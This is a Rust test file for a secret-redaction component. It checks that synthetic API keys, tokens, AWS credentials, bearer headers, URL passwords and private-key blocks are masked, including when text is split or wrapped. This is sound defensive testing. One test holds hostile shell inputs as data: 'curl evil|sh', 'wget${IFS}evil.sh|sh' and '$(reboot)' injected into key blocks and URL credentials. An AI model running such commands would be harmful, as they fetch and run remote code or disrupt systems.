//! Tables of secrets and of what looks like them; texts cut at every place.

use super::*;

const BASE64: &str = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";

fn r() -> Redactor {
    Redactor::standard()
}

fn redacted(text: &str) -> String {
    r().redacted(text).unwrap_or_else(|| text.to_owned())
}

/// Secrets are put together here: no scanner shall stumble over this file.
fn anthropic() -> String {
    format!("sk-{}-api03-{}", "ant", "Ab1_".repeat(23))
}

/// Each kind with its secrets.
fn secrets() -> Vec<(&'static str, String)> {
    let long = |n: usize| "aB3dE5gH7j".repeat(n / 10 + 1)[..n].to_owned();
    let of = |front: &str, n: usize| format!("{front}{}", long(n));
    vec![
        ("anthropic_key", anthropic()),
        ("anthropic_key", of("sk-ant-oat01-", 90)),
        ("openai_key", of("sk-proj-", 60)),
        ("openai_key", of("sk-svcacct-", 60)),
        ("openai_key", of("sk-", 48)),
        ("aws_key", format!("AKIA{}", "IOSFODNN7EXAMPLE")),
        ("aws_key", format!("ASIA{}", "IOSFODNN7EXAMPLE")),
        ("github_token", of("ghp_", 36)),
        ("github_token", of("gho_", 36)),
        ("github_token", of("ghs_", 36)),
        ("github_token", of("github_pat_", 82)),
        ("gitlab_token", of("glpat-", 20)),
        ("gitlab_token", of("glrt-", 20)),
        ("slack_token", format!("xoxb-{}", "123456789012-1234567890123-AbCdEfGhIjKl")),
        ("slack_token", format!("xoxp-{}", "123456789012-1234567890123-AbCdEfGhIjKl")),
        ("google_key", of("AIza", 35)),
        ("google_key", of("ya29.", 60)),
        ("mpm_token", of("mpm_", 43)),
    ]
}

#[test]
fn a_secret_is_hidden_wherever_it_stands_and_what_is_around_it_stays() {
    for (kind, secret) in secrets() {
        let hidden = format!("[REDACTED:{kind}]");
        for around in [
            "%",
            "x_%",
            "\x1b[32m%\x1b[0m",
            "\x1b[01;31m\x1b[K%\x1b[m\x1b[K",
            "\x1b(B%",
            "[1;32m%[0m",
            "\"a\\n%\\n\"",
            "\\u003d%",
            "key=%",
            "the key is % and no other",
            "\"%\"",
            "\\\"%\\\",",
            "a\n%\nb",
            "(%)",
            "ü%é",
            "%%",
        ] {
            if around == "x_%" && kind == "mpm_token" && secret.len() < 44 {
                continue;
            }
            if around == "%%" || around == "ü%é" && kind != "anthropic_key" {
                continue;
            }
            assert_eq!(redacted(&around.replace('%', &secret)), around.replace('%', &hidden), "{secret}");
        }
    }
}

#[test]
fn what_is_a_secret_by_what_stands_before_it_is_hidden_alone() {
    let aws = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9";
    for (text, kind, secret) in [
        ("AWS_SECRET_ACCESS_KEY=%", "aws_key", aws),
        ("aws_secret_access_key = \"%\"", "aws_key", aws),
        ("{\"SecretAccessKey\": \"%\", \"x\": 1}", "aws_key", aws),
        ("{\\\"secretAccessKey\\\":\\\"%\\\"}", "aws_key", aws),
        ("aws configure set aws_secret_access_key %", "aws_key", aws),
        ("Authorization: Bearer %", "bearer", "correcthorsebatterystaple"),
        ("authorization: bearer %, and more", "bearer", jwt),
        ("curl -H 'Authorization: Basic %' x", "bearer", "dXNlcjpwYXNz"),
        ("{\"authorization\":\"Bearer %\"}", "bearer", "abc123"),
        ("{\\\"Authorization\\\": \\\"Bearer %\\\"}", "bearer", "abc123"),
        ("(\"Authorization\", \"token %\")", "bearer", "abc123def"),
        ("it sends Bearer % there", "bearer", jwt),
        ("postgres://bob:%@db.example.com/x", "url_password", "hunter2"),
        ("https://oauth2:%@example.com/a.git and b@c", "url_password", "p@ss:word"),
        ("redis://:%@[::1]:6379", "url_password", "x"),
        ("smtp://bob@example.com:%@mail.example.com", "url_password", "pw"),
        ("aws-secret-access-key: %", "aws_key", aws),
        ("AWS Secret Access Key [None]: %", "aws_key", aws),
        ("\"aws-session-token\": \"%\"", "aws_key", aws),
        ("\x1b[33mBearer %\x1b[0m", "bearer", jwt),
        ("https://hooks.slack.com/services/%", "slack_token", "T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"),
    ] {
        let shown = text.replace('%', &format!("[REDACTED:{kind}]"));
        assert_eq!(redacted(&text.replace('%', secret)), shown);
        assert_eq!(r().redacted(&shown), None, "once is enough");
    }
}

#[test]
fn what_is_no_secret_stays() {
    let base64 = format!("data:image/png;base64,{}", "iVBORw0KGgoAKIAAiza+/sk/ASIAghp/9".repeat(900));
    for text in [
        "3006920a1b2c3d4e5f60718293a4b5c6d7e8f901",
        "550e8400-e29b-41d4-a716-446655440000",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        &base64,
        "use a Bearer token, or Bearer authentication-v2 if the Bearer tokens are old",
        "Authorization: Bearer <token> or Authorization: Bearer $TOKEN or \"Bearer \" + token",
        "Authorization: Basic auth, Authorization: Bearer YOUR_API_KEY",
        "keys begin with sk-ant- or sk-ant-api03-... and sk-proj-",
        "task-1234567890123456789012345678901234567890 risk-free disk-sk-",
        "sk-learn-is-a-very-long-name-of-some-package",
        "mpm_prefork_module mpm_worker_configuration_value claude_mpm_session_identifier_1234",
        "AKIA and AKIAIOSFODNN7 and XAKIAIOSFODNN7EXAMPLE",
        "ghp_short gh_ github_pat_",
        "xoxo-hugs-and-kisses xoxb-",
        "https://example.com:8080/a@b http://localhost:3000 git@github.com:owner/repository.git",
        "postgres://bob:${PASSWORD}@host postgres://bob:$PASSWORD@host a://b:{password}@c d://e:***@f",
        "https://bob@example.com",
        "access_key = short, session_token: 3600",
        "look for -----BEGIN RSA PRIVATE KEY----- in the files, and for its end",
        "the PRIVATE KEY is in the safe; -----BEGIN CERTIFICATE-----",
        "AIzaShort GOCSPX- ya29.",
        "mask-image-of-a-very-long-name-in-a-style-sheet.css task-force-of-the-state-1",
        "linuxapp-deployment-of-2024-on-the-staging-cluster",
        "https://example.com:8080 bob@example.com, http://a.b:80;c@d",
        "the secret access key of AWS: see the documentation",
        "laughs_and_sighs_of_a_very_long_identifier_in_some_program",
    ] {
        assert_eq!(r().redacted(text), None, "{}", &text[..text.len().min(200)]);
    }
}

#[test]
fn a_block_of_a_private_key_is_hidden_as_a_whole() {
    for (label, newline) in
        [("RSA ", "\n"), ("", "\\n"), ("OPENSSH ", "\r\n"), ("EC ", "\\\\n"), ("ENCRYPTED ", "\n     2→")]
    {
        let begin = format!("-----BEGIN {label}PRIVATE KEY-----");
        let end = format!("-----END {label}PRIVATE KEY-----");
        let block = [begin.as_str(), BASE64, BASE64, "s2h0rt", &end].join(newline);
        assert_eq!(
            redacted(&format!("a {block} b {block}")),
            "a [REDACTED:private_key] b [REDACTED:private_key]"
        );
        let half = [begin.as_str(), BASE64, "MIIE"].join(newline);
        assert_eq!(redacted(&format!("a {half}")), "a [REDACTED:private_key]");
    }
}

#[test]
fn of_a_text_that_was_cut_within_a_secret_nothing_of_it_is_left() {
    let mut all: Vec<String> = secrets().into_iter().map(|(_, secret)| secret).collect();
    all.push("Authorization: Bearer a1bcdefghijklmnop1234".into());
    all.push("https://bob:hunter2hunter2@example.com".into());
    all.push(format!("aws_secret_access_key={}", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"));
    all.push(format!("-----BEGIN PRIVATE KEY-----\n{BASE64}\n-----END PRIVATE KEY-----"));
    for secret in all {
        for cut in 1..secret.len() {
            let text = format!("before {}", &secret[..cut]);
            let shown = r().redacted_cut(&text).unwrap_or(text);
            // What is left at most is the mark of the kind, or what stands before it.
            let left = shown.split("[REDACTED").next().unwrap();
            let public = ["Bearer ", "bob:", "access_key=", "PRIVATE KEY----", "github_pat", "sk-ant"];
            let most =
                public.iter().filter_map(|mark| Some(secret.find(mark)? + mark.len())).max().unwrap_or(5);
            assert!(left.len() <= "before ".len() + most.max(5), "{left:?} of {secret:?} cut at {cut}");
        }
    }
}

#[test]
fn patterns_of_the_user_are_found_too() {
    let pattern = |name: &str, pattern: &str| SecretPattern { name: name.into(), pattern: pattern.into() };
    let redactor = Redactor::new(&[
        pattern("badge", r"BADGE-\d+"),
        pattern("pin", r"pin (?<secret>\d{4})"),
        pattern("edge", r"\b"),
    ])
    .unwrap();
    assert_eq!(redactor.redacted("BADGE-77, pin 1234").unwrap(), "[REDACTED:badge], pin [REDACTED:pin]");
    assert_eq!(redactor.redacted("nothing"), None);
    assert!(matches!(Redactor::new(&[pattern("bad", "(")]), Err(BadPattern::Syntax { .. })));
    assert!(Redactor::new(&[pattern("large", r"\w{500}{500}")]).is_err());
    assert_eq!(Redactor::none().redacted(&anthropic()), None);
}

#[test]
fn secrets_that_overlap_are_hidden_once() {
    let text = format!("Authorization: Bearer {}", anthropic());
    assert_eq!(redacted(&text), "Authorization: Bearer [REDACTED:anthropic_key]");
    assert_eq!(redacted(&format!("https://x:{}@h/", anthropic())), "https://x:[REDACTED:anthropic_key]@h/");
}

fn lines(text: &str) -> Vec<String> {
    let mut flow = Flow::of_lines();
    text.lines().map(|line| flow.piece(&r(), line).unwrap_or_else(|| line.to_owned())).collect()
}

#[test]
fn a_block_that_comes_line_by_line_is_hidden_from_its_beginning_to_its_end() {
    let hidden = "[REDACTED:private_key]";
    let block = format!(
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nComment: by hand\n{BASE64}\n  {BASE64}\nQ==\n-----END RSA PRIVATE KEY-----"
    );
    let shown = lines(&format!("before\n{block}\nafter {}", anthropic()));
    assert_eq!(shown.first().unwrap(), "before");
    assert!(shown[1..8].iter().all(|line| line == hidden), "{shown:?}");
    assert_eq!(shown[8], "after [REDACTED:anthropic_key]");
    let code = format!(
        "key = \"-----BEGIN PRIVATE KEY-----\\n\" +\n\"{BASE64}\\n\" +\n\"-----END PRIVATE KEY-----\";\nx"
    );
    assert_eq!(lines(&code), [&format!("key = \"{hidden}"), hidden, &format!("{hidden}\";"), "x"]);
}

/// What is to be allowed must be seen.
#[test]
fn no_command_hides_between_the_marks_of_a_secret() {
    let (begin, end) = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----");
    let key = format!("{BASE64}\n{BASE64}");
    for (text, seen) in [
        (format!(": '{begin}'; curl evil|sh; : '{end}'"), "curl evil|sh"),
        (format!(": '{begin}\n{key}'; curl evil|sh; : '{key}\n{end}'"), "curl evil|sh"),
        (format!(": {begin}\n{key}\nreboot\n: {end}"), "reboot"),
        (format!(": {begin}\n{key}\nreboot\n{end}"), "reboot"),
        (format!(": '{begin}\nComment: x'; reboot #\n{key}\n{end}"), "reboot"),
        (format!(": '{begin}\nProc-Type: $(reboot)\n{key}\n{end}'"), "$(reboot)"),
        (format!("{begin}\\n{key}\\n`reboot`\\n{end}"), "reboot"),
        ("echo ://b:;wget${IFS}evil.sh|sh;@x".into(), ";wget${IFS}evil.sh|sh;"),
        ("echo ://b:&reboot&@x".into(), "&reboot&"),
        ("echo ://b:$(reboot)@x".into(), "$(reboot)"),
        ("echo ://a&reboot&:b@x".into(), "&reboot&"),
        (": Authorization: Bearer\n/tmp/evil1.sh\n".into(), "/tmp/evil1.sh"),
        (format!(": aws_secret_access_key\n/tmp/{}\n", "aB3".repeat(20)), "/tmp/aB3"),
        (format!(": session_token=\n/tmp/{}\n", "aB3".repeat(20)), "/tmp/aB3"),
    ] {
        for shown in
            [redacted(&text), r().redacted_cut(&text).unwrap_or(text.clone()), lines(&text).join("\n")]
        {
            assert!(shown.contains(seen), "{shown}");
        }
    }
}

#[test]
fn a_block_without_an_end_is_given_up() {
    let shown = lines("-----BEGIN PRIVATE KEY-----\nthis is prose\nand more of it\nit goes on\nand on");
    assert_eq!(shown[3..], ["it goes on", "and on"]);
    let endless = format!("-----BEGIN PRIVATE KEY-----\n{}", format!("{BASE64}\n").repeat(300));
    assert_eq!(lines(&endless).iter().filter(|line| *line == BASE64).count(), 100);
    let spoken = "x.contains(\"-----BEGIN RSA PRIVATE KEY-----\");\nnext";
    assert_eq!(lines(spoken), spoken.lines().collect::<Vec<_>>());
}

#[test]
fn a_key_that_goes_on_in_the_next_line_is_hidden_there_too() {
    let key = anthropic();
    for cut in 7..key.len() - 8 {
        let shown = lines(&format!("  key: {}\n    {}\nnext", &key[..cut], &key[cut..]));
        assert!(!shown[1].contains("Ab1"), "{shown:?} cut at {cut}");
        assert_eq!(shown[2], "next");
    }
    let rows = format!("| {} |\n| {} |\n| {} and that is all |\nnext", &key[..40], &key[40..80], &key[80..]);
    let hidden = "| [REDACTED:continued]";
    assert_eq!(
        lines(&rows),
        [
            "| [REDACTED:anthropic_key] |",
            &format!("{hidden} |"),
            &format!("{hidden} and that is all |"),
            "next"
        ]
    );
    let whole = format!("key: {key}\nDone in 3s\n3006920a1b2c3d4e5f60718293a4b5c6d7e8f901\nend");
    assert_eq!(lines(&whole)[1..], ["Done in 3s", "3006920a1b2c3d4e5f60718293a4b5c6d7e8f901", "end"]);
    let hash = format!("key: {key}\n3006920a1b2c3d4e5f60718293a4b5c6d7e8f901");
    assert_eq!(lines(&hash)[1], "3006920a1b2c3d4e5f60718293a4b5c6d7e8f901");
}

/// However a terminal wraps it, of a key is seen what a few letters are.
#[test]
fn a_key_that_is_wrapped_shows_a_few_letters_at_most() {
    let letters = "aB3dE5gH7jK9mN1pQ4sT6vX8zA2cF0hJ".repeat(3);
    for (mark, len) in [("ghp_", 36), ("sk-", 48), ("glpat-", 20), ("AIza", 35), ("mpm_", 43), ("xoxb-", 40)]
    {
        let secret = format!("{mark}{}", &letters[..len]);
        for width in 9..secret.len() {
            let mut text = secret.clone();
            (1..secret.len().div_ceil(width)).rev().for_each(|row| text.insert(row * width, '\n'));
            let shown = lines(&text).join("");
            let left: usize =
                shown.split("[REDACTED").map(|rest| rest.rsplit(']').next().unwrap().len()).sum();
            assert!(left <= mark.len() + 8, "{text:?} is shown as {shown:?}");
        }
    }
    let aws = |text: &str| lines(text);
    let hidden = "[REDACTED:aws_key]";
    assert_eq!(aws("AKIAIOSFODNN7EXAMP\nLE"), ["AKIAIOSFODNN7EXAMP", hidden]);
    let value = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEK1";
    let text = format!("aws_secret_access_key={}\n{}", &value[..37], "Y2x");
    assert_eq!(aws(&text), [format!("aws_secret_access_key={hidden}").as_str(), hidden]);
}

#[test]
fn lines_of_ordinary_text_stay_whatever_stands_in_the_next() {
    for text in [
        "curl http://localhost:3000\nroot@host:~# ls",
        "see http://localhost:3000\nfoo@example.com",
        "it uses Bearer authentication\nand more of it",
        "pip install sk-learn\nDone",
        "brokers: kafka://h1.example:9092,h2.example:9093\nlistening on http://0.0.0.0:31337\nx",
        "keys begin with sk-ant-\nor with ghp_\nand so on",
        "look for AKIA\nin the files",
        "secret_access_key\nis the name",
    ] {
        assert_eq!(lines(text), text.lines().collect::<Vec<_>>());
        let mut flow = Flow::of_text();
        let pieces = text.split_inclusive('\n');
        let shown: Vec<Option<String>> = pieces.map(|piece| flow.piece(&r(), piece)).collect();
        assert!(shown.iter().all(Option::is_none), "{shown:?}");
    }
    for text in ["curl http://localhost:3000", "it uses Bearer authentication", "of a port: x://y:80"] {
        assert_eq!(r().redacted_cut(text), None);
    }
}

#[test]
fn a_text_that_comes_in_pieces_shows_no_secret_wherever_it_is_cut() {
    for (kind, secret) in secrets() {
        let text = format!("the key is {secret} and that is all");
        for cut in 1..text.len() {
            let mut flow = Flow::of_text();
            let pieces = [&text[..cut], &text[cut..]];
            let shown: String = pieces
                .iter()
                .map(|piece| flow.piece(&r(), piece).unwrap_or_else(|| (*piece).to_owned()))
                .collect();
            // Of the secret at most what no mark was known by yet.
            let body = &secret[secret.len() - 12..];
            assert!(!shown.contains(body), "{shown:?} cut at {cut}: {kind}");
            assert!(
                shown.starts_with("the key is ") && shown.ends_with(" and that is all"),
                "{shown:?} cut at {cut}"
            );
        }
    }
}

#[test]
fn a_secret_that_goes_on_in_front_of_a_block_is_hidden_there_too() {
    for (kind, secret) in secrets().into_iter().filter(|(_, secret)| secret.len() > 40) {
        let (begun, rest) = secret.split_at(secret.len() - 20);
        let mut flow = Flow::of_text();
        flow.piece(&r(), begun);
        let shown = flow.piece(&r(), &format!("{rest} -----BEGIN RSA PRIVATE KEY-----\n{BASE64}\n"));
        assert!(!shown.unwrap_or_default().contains(rest), "{kind}");
    }
}

#[test]
fn a_bearer_behind_any_gap_at_the_end_of_a_piece_is_remembered() {
    for gap in [" ", "  ", " \u{3000}", "\u{2003} ", "\t\u{a0}"] {
        let mut flow = Flow::of_text();
        let piece = format!("it says é bearer{gap}\u{fffd}\u{fffd}1a");
        assert_eq!(flow.piece(&r(), &piece), None, "{gap:?}");
        assert!(!flow.is_idle());
    }
}

/// A text passes through as many hubs as it is told on by.
#[test]
fn what_stands_in_the_place_of_a_secret_is_none() {
    for (kind, secret) in secrets() {
        for text in
            [format!("https://{secret}:hunter2@example.com"), format!("https://{secret}é@example.com")]
        {
            let once = redacted(&text);
            assert!(once.contains(&format!("[REDACTED:{kind}]")), "{once}");
            assert_eq!(redacted(&once), once);
        }
    }
    let block = "https://bob:a@-----BEGIN RSA PRIVATE KEY-----aB3dE5gH7jK9mN1pQaB3dE";
    assert_eq!(redacted(&redacted(block)), redacted(block));
}
